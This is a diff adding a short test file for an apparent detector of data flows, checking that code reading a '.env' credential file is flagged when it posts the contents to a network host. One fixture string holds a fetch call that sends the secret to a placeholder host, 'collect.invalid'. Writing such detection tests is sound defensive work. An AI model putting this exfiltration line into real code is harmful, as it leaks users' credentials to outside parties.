@@ -1,0 +1,13 @@
+import assert from 'node:assert/strict';
+import { flowsOf } from './sent.js';
+
+describe('paths', () => {
+  it('may be what stands in the code, where a caller can give another', () => {
+    const code = (send: string) =>
+      `exports.load = (o = {}) => { const t = fs.readFileSync(path.resolve(o.path || '.env'), 'utf8'); ${send} };`;
+    assert.deepEqual(flowsOf(code(`fetch('https://collect.invalid', { body: t });`)), [
+      'credential-file>network@collect.invalid',
+    ]);
+    assert.deepEqual(flowsOf(code(`return t.split('\\n');`)), []);
+  });
+});
